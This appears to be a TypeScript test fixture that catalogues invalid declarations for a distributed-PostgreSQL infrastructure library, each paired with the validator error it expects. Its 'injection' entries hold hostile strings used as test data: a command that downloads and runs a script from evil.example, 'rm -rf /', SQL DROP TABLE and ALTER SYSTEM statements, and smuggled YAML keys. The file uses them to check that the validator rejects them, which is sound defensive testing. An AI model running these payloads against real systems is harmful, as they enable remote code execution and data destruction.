@@ -1,0 +1,211 @@
+/**
+ * The bad-input catalogue: invalid declarations, each a change to the valid reference ledger fleet, with the
+ * rule id and message fragment the user must see. Most come through `any` the way JavaScript callers,
+ * JSON/YAML-driven platforms or careless casts would pass them.
+ */
+
+export type Category =
+  | 'wrong type' | 'empty list' | 'unknown region' | 'overlapping CIDRs' | 'impossible quorum' | 'geoshard mistake'
+  | 'engine/version mismatch' | 'invalid name' | 'injection' | 'typo' | 'provider wiring';
+
+export interface BadInput {
+  readonly name: string;
+  readonly category: Category;
+  /** Breaks the (deep-copied) ledger declaration. */
+  readonly change: (props: any) => void;
+  /** Rule id and a fragment (regular expression) of the finding the message must contain. */
+  readonly expected: readonly { readonly rule: string; readonly fragment: RegExp }[];
+}
+
+const HOSTILE = {
+  sqlQuote: "x'; DROP TABLE accounts; --",
+  shell: '$(curl -s evil.example | sh)',
+  backticks: '`reboot`',
+  yamlKeys: 'ok\nssl: off\nlisten: 0.0.0.0',
+};
+
+export const BAD_INPUTS: readonly BadInput[] = [
+  // Wrong types through `any`.
+  { name: 'props is not an object', category: 'wrong type', change: (p) => { for (const k of Object.keys(p)) delete p[k]; p.nodeGroups = 'use1,euw1'; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups: must be a list, got the string "use1,euw1"/ }] },
+  { name: 'fleet name is a number', category: 'wrong type', change: (p) => { p.name = 42; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /name: must be a string, got number 42/ }] },
+  { name: 'member count as text', category: 'wrong type', change: (p) => { p.nodeGroups[0].members = 'three'; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.members: must be a finite number, got the string "three"/ }] },
+  { name: 'member count NaN', category: 'wrong type', change: (p) => { p.nodeGroups[1].members = NaN; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[1\] \(euw1\)\.members: must be a finite number, got number NaN/ }] },
+  { name: 'node group is null', category: 'wrong type', change: (p) => { p.nodeGroups[2] = null; p.geoshards[0].nodeGroups = ['euw1']; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[2\]: must be an object, got null/ }] },
+  { name: 'cloud not in the enum', category: 'wrong type', change: (p) => { p.nodeGroups[0].cloud = 'azure'; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.cloud: must be one of 'aws', 'gcp', got the string "azure"/ }] },
+  { name: 'zones as a single string', category: 'wrong type', change: (p) => { p.nodeGroups[0].zones = 'us-east-1a'; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.zones: must be a list, got the string "us-east-1a"/ }] },
+  { name: 'ttl Infinity', category: 'wrong type', change: (p) => { p.ha = { ttl: Infinity }; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /ha\.ttl: must be a finite number, got number Infinity/ }] },
+  { name: 'postgres parameters as a list', category: 'wrong type', change: (p) => { p.postgres = { parameters: ['work_mem=64MB'] }; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /postgres\.parameters: must be an object, got a list/ }] },
+  { name: 'parameter value as a number', category: 'wrong type', change: (p) => { p.postgres = { parameters: { max_connections: 200 } }; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /postgres\.parameters\.max_connections: must be a string, got number 200/ }] },
+  { name: 'snowflake ids as strings', category: 'wrong type', change: (p) => { p.nodeGroups[0].snowflakeNodeIds = ['1', '2', '3']; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\] \(use1\)\.snowflakeNodeIds\[0\]: must be a finite number, got the string "1"/ }] },
+  { name: 'failsafe mode as "yes"', category: 'wrong type', change: (p) => { p.ha = { failsafeMode: 'yes' }; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /ha\.failsafeMode: must be true or false, got the string "yes"/ }] },
+  { name: 'a billion members (no memory blow-up)', category: 'wrong type', change: (p) => { p.nodeGroups[0].members = 1e9; },
+    expected: [{ rule: 'DPG-MEMBERS', fragment: /nodeGroups\[0\] \(use1\)\.members: 1000000000 is not a whole number in 1\.\.9/ }] },
+
+  // Empty lists.
+  { name: 'no node groups', category: 'empty list', change: (p) => { p.nodeGroups = []; p.geoshards = []; },
+    expected: [{ rule: 'DPG-GROUPS', fragment: /nodeGroups: is empty\. Fix: declare at least one node group/ }] },
+  { name: 'no zones', category: 'empty list', change: (p) => { p.nodeGroups[1].zones = []; },
+    expected: [{ rule: 'DPG-REGION', fragment: /nodeGroups\[1\] \(euw1\)\.zones: is empty/ }] },
+  { name: 'geoshard without node groups', category: 'empty list', change: (p) => { p.geoshards[0].nodeGroups = []; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /geoshards\[0\] \(eu\)\.nodeGroups: is empty: a geography with no node group/ }] },
+  { name: 'geoshard without tables', category: 'empty list', change: (p) => { p.geoshards[0].tables = []; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /geoshards\[0\] \(eu\)\.tables: is empty/ }] },
+  { name: 'partition without values', category: 'empty list', change: (p) => { p.geoshards[0].tables[0].values = []; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /geoshards\[0\] \(eu\)\.tables\[0\]\.values: is empty/ }] },
+
+  // Unknown regions and zones.
+  { name: 'AWS region that does not exist', category: 'unknown region', change: (p) => { p.nodeGroups[0].region = 'us-east-9'; },
+    expected: [{ rule: 'DPG-REGION', fragment: /nodeGroups\[0\] \(use1\)\.region: 'us-east-9' is not an AWS region this library knows\. Fix: use one of us-east-1/ }] },
+  { name: 'GCP region on an AWS group', category: 'unknown region', change: (p) => { p.nodeGroups[1].region = 'europe-west1'; },
+    expected: [{ rule: 'DPG-REGION', fragment: /'europe-west1' is not an AWS region/ }] },
+  { name: 'AWS region on a GCP group', category: 'unknown region', change: (p) => { p.nodeGroups[2].region = 'eu-central-1'; },
+    expected: [{ rule: 'DPG-REGION', fragment: /nodeGroups\[2\] \(euw3\)\.region: 'eu-central-1' is not a GCP region/ }] },
+  { name: 'region named like an object property', category: 'unknown region', change: (p) => { p.nodeGroups[0].region = '__proto__'; },
+    expected: [{ rule: 'DPG-REGION', fragment: /'__proto__' is not an AWS region/ }] },
+  { name: 'zone of another region', category: 'unknown region', change: (p) => { p.nodeGroups[0].zones = ['us-east-1a', 'us-east-1b', 'us-west-2a']; },
+    expected: [{ rule: 'DPG-REGION', fragment: /'us-west-2a' is not a zone of us-east-1/ }] },
+
+  // Overlapping and unusable CIDRs.
+  { name: 'two explicit CIDRs overlap', category: 'overlapping CIDRs', change: (p) => { p.nodeGroups[0].cidr = '10.10.0.0/16'; p.nodeGroups[1].cidr = '10.10.64.0/20'; },
+    expected: [{ rule: 'DPG-CIDR', fragment: /nodeGroups\[1\] \(euw1\)\.cidr: 10\.10\.64\.0\/20 overlaps 10\.10\.0\.0\/16/ }] },
+  { name: 'explicit CIDR over a carved one', category: 'overlapping CIDRs', change: (p) => { p.nodeGroups[2].cidr = '10.64.16.0/22'; },
+    expected: [{ rule: 'DPG-CIDR', fragment: /10\.64\.16\.0\/22 overlaps 10\.64\.16\.0\/20 of nodeGroups\[1\] \(euw1\)/ }] },
+  { name: 'same group number twice (same carved CIDR)', category: 'overlapping CIDRs', change: (p) => { p.nodeGroups[1].number = 1; },
+    expected: [{ rule: 'DPG-GROUPS', fragment: /node group number 1 is used more than once/ }] },
+  { name: 'public fleet CIDR', category: 'overlapping CIDRs', change: (p) => { p.network.fleetCidr = '0.0.0.0/0'; },
+    expected: [{ rule: 'DPG-CIDR', fragment: /network\.fleetCidr: 0\.0\.0\.0\/0 is not a private \(RFC 1918\) range/ }] },
+  { name: 'client range open to the internet', category: 'overlapping CIDRs', change: (p) => { p.network.clientCidrs = ['0.0.0.0/0']; },
+    expected: [{ rule: 'DPG-CIDR', fragment: /network\.clientCidrs\[0\]: 0\.0\.0\.0\/0 is not a private range; the database must never be reachable from the internet/ }] },
+
+  // Impossible quorums and HA settings.
+  { name: 'even etcd quorum', category: 'impossible quorum', change: (p) => { p.etcd = { size: 4 }; },
+    expected: [{ rule: 'DPG-ETCD-SIZE', fragment: /4 etcd members is an even quorum/ }] },
+  { name: 'single etcd member', category: 'impossible quorum', change: (p) => { p.nodeGroups[2].etcd = { size: 1 }; },
+    expected: [{ rule: 'DPG-ETCD-SIZE', fragment: /nodeGroups\[2\] \(euw3\)\.etcd\.size: 1 etcd members cannot give a fault-tolerant quorum/ }] },
+  { name: 'quorum of three over two zones', category: 'impossible quorum', change: (p) => { p.nodeGroups[0].zones = ['us-east-1a', 'us-east-1b']; },
+    expected: [{ rule: 'DPG-ETCD-SPREAD', fragment: /3 etcd members over 2 zone\(s\) puts 2 in one zone/ }] },
+  { name: 'co-located quorum larger than the group', category: 'impossible quorum', change: (p) => { p.nodeGroups[1].etcd = { size: 5 }; },
+    expected: [{ rule: 'DPG-ETCD-COLOCATED', fragment: /a co-located etcd quorum of 5 needs 5 Postgres members, but the group has 3/ }] },
+  { name: 'every standby synchronous', category: 'impossible quorum', change: (p) => { p.ha = { synchronousStandbys: 2 }; },
+    expected: [{ rule: 'DPG-SYNC', fragment: /2 synchronous standby\(s\) out of 2 standby\(s\): losing one standby would block/ }] },
+  { name: 'Patroni timing rule broken', category: 'impossible quorum', change: (p) => { p.ha = { ttl: 20, loopWait: 10, retryTimeout: 10 }; },
+    expected: [{ rule: 'DPG-PATRONI-TIMING', fragment: /loop_wait 10 \+ 2 x retry_timeout 10 = 30 exceeds ttl 20/ }] },
+
+  // Geoshard mistakes.
+  { name: 'geoshard names a missing group', category: 'geoshard mistake', change: (p) => { p.geoshards[0].nodeGroups = ['euw1', 'fra1']; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /'fra1' is not a node group of this fleet/ }] },
+  { name: 'partition in two geoshards', category: 'geoshard mistake',
+    change: (p) => { p.geoshards.push({ name: 'us', nodeGroups: ['use1'], tables: [{ table: 'ledger.entries', partition: 'ledger.entries_eu', values: ['us'] }] }); },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /partition 'ledger\.entries_eu' is in geoshards 'eu' and 'us'/ }] },
+  { name: 'geoshard table also global', category: 'geoshard mistake', change: (p) => { p.replication.globalTables.push('ledger.entries'); },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /'ledger\.entries' is also a global table, so its rows would replicate outside 'eu'/ }] },
+  { name: 'partition is the parent table', category: 'geoshard mistake', change: (p) => { p.geoshards[0].tables[0].partition = 'ledger.entries'; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /the partition 'ledger\.entries' is the parent table itself/ }] },
+  { name: 'partition value listed twice', category: 'geoshard mistake', change: (p) => { p.geoshards[0].tables[0].values = ['eu', 'eu']; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /value 'eu' is listed twice/ }] },
+  { name: 'duplicate geoshard names', category: 'geoshard mistake', change: (p) => { p.geoshards.push({ ...p.geoshards[0], tables: [{ table: 'ledger.entries', partition: 'ledger.entries_eu2', values: ['ch'] }] }); },
+    expected: [{ rule: 'DPG-NAME', fragment: /geoshard name 'eu' is used more than once/ }] },
+
+  // Engine / version / package mismatches.
+  { name: 'Spock from the PGDG repository', category: 'engine/version mismatch', change: (p) => { p.postgres = { packageSource: 'pgdg' }; },
+    expected: [{ rule: 'DPG-PACKAGES', fragment: /Spock needs pgEdge's patched PostgreSQL, but packageSource is 'pgdg'/ }] },
+  { name: 'Spock on PostgreSQL 9.6', category: 'engine/version mismatch', change: (p) => { p.postgres = { version: 9.6 }; },
+    expected: [{ rule: 'DPG-PACKAGES', fragment: /support PostgreSQL 16 to 18, not 9\.6/ }] },
+  { name: 'native multi-master on PostgreSQL 15', category: 'engine/version mismatch',
+    change: (p) => { p.replication = { engine: 'native' }; p.postgres = { packageSource: 'pgdg', version: 15 }; },
+    expected: [{ rule: 'DPG-PACKAGES', fragment: /native multi-master replication needs PostgreSQL 16 or later/ }] },
+  { name: 'pglogical with pgEdge packages', category: 'engine/version mismatch', change: (p) => { p.replication = { engine: 'pglogical' }; p.postgres = { packageSource: 'pgedge' }; },
+    expected: [{ rule: 'DPG-PACKAGES', fragment: /pgEdge's repository ships Spock, not pglogical/ }] },
+  { name: 'distro PostgreSQL 17 on Ubuntu 24.04', category: 'engine/version mismatch', change: (p) => { p.replication = { engine: 'pglogical' }; p.postgres = { packageSource: 'distro', version: 17 }; },
+    expected: [{ rule: 'DPG-PACKAGES', fragment: /ubuntu-24\.04 ships only PostgreSQL 16/ }] },
+  { name: 'Debian 12 on GCP (no cloud-init)', category: 'engine/version mismatch', change: (p) => { p.nodeGroups[2].image = 'debian-12'; },
+    expected: [{ rule: 'DPG-IMAGE', fragment: /Debian 12 images on GCP do not run cloud-init/ }] },
+
+  // Names that are not DNS labels or Postgres identifiers.
+  { name: 'fleet name with upper case and punctuation', category: 'invalid name', change: (p) => { p.name = 'Ledger!'; },
+    expected: [{ rule: 'DPG-NAME', fragment: /name: 'Ledger!' is not a valid fleet name/ }] },
+  { name: 'group name with an underscore', category: 'invalid name', change: (p) => { p.nodeGroups[0].name = 'us_east'; p.geoshards[0].nodeGroups = ['euw1', 'euw3']; },
+    expected: [{ rule: 'DPG-NAME', fragment: /nodeGroups\[0\] \(us_east\)\.name: 'us_east' is not a valid node group name/ }] },
+  { name: 'group name longer than a label allows', category: 'invalid name', change: (p) => { p.nodeGroups[0].name = 'a'.repeat(64); },
+    expected: [{ rule: 'DPG-NAME', fragment: /is not a valid node group name/ }] },
+  { name: 'database named after a system database', category: 'invalid name', change: (p) => { p.postgres = { database: 'postgres' }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.database: 'postgres' is a system database of every cluster/ }] },
+  { name: 'table named with a reserved word', category: 'invalid name', change: (p) => { p.replication.globalTables = ['ledger.order']; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /replication\.globalTables\[0\]: 'ledger\.order' uses the reserved word 'order'/ }] },
+  { name: 'upper-case table name', category: 'invalid name', change: (p) => { p.replication.globalTables = ['Ledger.Accounts']; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /'Ledger\.Accounts' is not a plain lower-case table name/ }] },
+  { name: 'DNS zone with a trailing dot', category: 'invalid name', change: (p) => { p.network.privateDnsZone = 'ledger.db.internal.'; },
+    expected: [{ rule: 'DPG-NETWORK', fragment: /network\.privateDnsZone: 'ledger\.db\.internal\.' is not a DNS zone name/ }] },
+
+  // Injection attempts in names and parameters.
+  { name: 'SQL quote in a table name', category: 'injection', change: (p) => { p.replication.globalTables = [HOSTILE.sqlQuote]; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /replication\.globalTables\[0\]: 'x'; DROP TABLE accounts; --' is not a plain lower-case table name/ }] },
+  { name: 'newline and statement in a table name', category: 'injection', change: (p) => { p.replication.globalTables = ['ledger.accounts\n; DROP TABLE x']; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /is not a plain lower-case table name/ }] },
+  { name: 'trailing newline in a table name', category: 'injection', change: (p) => { p.replication.globalTables = ['ledger.accounts\n']; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /replication\.globalTables\[0\]: 'ledger\.accounts\n' is not a plain lower-case table name/ }] },
+  { name: 'quoted statement in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { work_mem: "64MB'; ALTER SYSTEM SET ssl = off; --" } }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.parameters\.work_mem: the value .* contains characters that are not allowed/ }] },
+  { name: 'command substitution in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { work_mem: HOSTILE.shell } }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /the value "\$\(curl -s evil\.example \| sh\)" contains characters that are not allowed/ }] },
+  { name: 'backticks in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { search_path: HOSTILE.backticks } }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.parameters\.search_path: the value "`reboot`"/ }] },
+  { name: 'YAML keys smuggled in a parameter value', category: 'injection', change: (p) => { p.postgres = { parameters: { work_mem: HOSTILE.yamlKeys } }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /the value "ok\\nssl: off\\nlisten: 0\.0\.0\.0" contains characters that are not allowed/ }] },
+  { name: 'statement in a parameter name', category: 'injection', change: (p) => { p.postgres = { parameters: { 'work_mem = 1; ssl': 'off' } }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /'work_mem = 1; ssl' is not a postgresql\.conf parameter name/ }] },
+  { name: 'managed parameter turned off', category: 'injection', change: (p) => { p.postgres = { parameters: { ssl: 'off' } }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /'ssl' is managed by the library/ }] },
+  { name: 'SQL in a geoshard partition value', category: 'injection', change: (p) => { p.geoshards[0].tables[0].values = ["eu'); DROP TABLE ledger.entries; --"]; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /"eu'\); DROP TABLE ledger\.entries; --" is not a plain partition value/ }] },
+  { name: 'newline in a geoshard partition value', category: 'injection', change: (p) => { p.geoshards[0].tables[0].values = ['eu\nus']; },
+    expected: [{ rule: 'DPG-GEOSHARD', fragment: /"eu\\nus" is not a plain partition value/ }] },
+  { name: 'shell in a Patroni tag value', category: 'injection', change: (p) => { p.nodeGroups[0].patroniTags = { rack: HOSTILE.shell }; },
+    expected: [{ rule: 'DPG-MEMBERS', fragment: /nodeGroups\[0\] \(use1\)\.patroniTags\.rack: Patroni tag keys must be lower-case identifiers/ }] },
+  { name: 'YAML keys in a Patroni tag key', category: 'injection', change: (p) => { p.nodeGroups[0].patroniTags = { 'nofailover: true\nclonefrom': 'true' }; },
+    expected: [{ rule: 'DPG-MEMBERS', fragment: /patroniTags\.nofailover: true\nclonefrom: Patroni tag keys/ }] },
+  { name: 'shell in the DNS zone', category: 'injection', change: (p) => { p.network.privateDnsZone = 'db.internal; rm -rf /'; },
+    expected: [{ rule: 'DPG-NETWORK', fragment: /'db\.internal; rm -rf \/' is not a DNS zone name/ }] },
+  { name: 'shell in a group name', category: 'injection', change: (p) => { p.nodeGroups[0].name = HOSTILE.shell; },
+    expected: [{ rule: 'DPG-NAME', fragment: /'\$\(curl -s evil\.example \| sh\)' is not a valid node group name/ }] },
+  { name: 'backticks in a geoshard name', category: 'injection', change: (p) => { p.geoshards[0].name = HOSTILE.backticks; },
+    expected: [{ rule: 'DPG-NAME', fragment: /'`reboot`' is not a valid geoshard name/ }] },
+  { name: 'quote in the database name', category: 'injection', change: (p) => { p.postgres = { database: "app'; DROP DATABASE app; --" }; },
+    expected: [{ rule: 'DPG-POSTGRES', fragment: /postgres\.database: 'app'; DROP DATABASE app; --' is not a plain lower-case database name/ }] },
+  { name: 'SQL in a delta-apply column', category: 'injection', change: (p) => { p.replication.deltaApplyColumns = [{ table: 'ledger.accounts', column: 'balance); DROP TABLE x; --' }]; },
+    expected: [{ rule: 'DPG-CONFLICTS', fragment: /is not a plain lower-case table and column name/ }] },
+  { name: 'shell in the secret name prefix', category: 'injection', change: (p) => { p.secrets = { namePrefix: 'ledger-$(id)' }; },
+    expected: [{ rule: 'DPG-NETWORK', fragment: /secrets\.namePrefix: 'ledger-\$\(id\)' cannot prefix secret names/ }] },
+  { name: 'shell in a machine type', category: 'injection', change: (p) => { p.nodeGroups[0].machineType = 'm6i.large; reboot'; },
+    expected: [{ rule: 'DPG-MEMBERS', fragment: /'m6i\.large; reboot' is not a machine type name/ }] },
+  { name: 'command after a client CIDR', category: 'injection', change: (p) => { p.network.clientCidrs = ['10.200.0.0/16; curl evil.example']; },
+    expected: [{ rule: 'DPG-CIDR', fragment: /'10\.200\.0\.0\/16; curl evil\.example' is not an IPv4 CIDR/ }] },
+
+  // Typos that would silently fall back to defaults.
+  { name: 'misspelt property of a node group', category: 'typo', change: (p) => { p.nodeGroups[0].memebers = 5; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /nodeGroups\[0\]\.memebers: is not a property of nodeGroups\[0\]\. Fix: did you mean 'members'\?/ }] },
+  { name: 'misspelt top-level property', category: 'typo', change: (p) => { p.geoShards = p.geoshards; delete p.geoshards; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /geoShards: is not a property\. Fix: did you mean 'geoshards'\?/ }] },
+  { name: 'property of another object', category: 'typo', change: (p) => { p.ha = { synchronousStandbys: 1, timing: 'fast' }; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /ha\.timing: is not a property of ha\. Fix: remove it, or use one of synchronousMode/ }] },
+
+  // Provider wiring.
+  { name: 'awsProviders as a string', category: 'provider wiring', change: (p) => { p.awsProviders = 'us-east-1'; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /awsProviders: must be a list, got the string "us-east-1"/ }] },
+  { name: 'an AWS provider that is not one', category: 'provider wiring', change: (p) => { p.awsProviders = [{ region: 'us-east-1', provider: { region: 'us-east-1' } }]; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /awsProviders\[0\]\.provider: must be an AwsProvider, got an object/ }] },
+  { name: 'googleProvider as a project id', category: 'provider wiring', change: (p) => { p.googleProvider = 'my-project'; },
+    expected: [{ rule: 'DPG-TYPE', fragment: /googleProvider: must be a GoogleProvider, got the string "my-project"/ }] },
+];
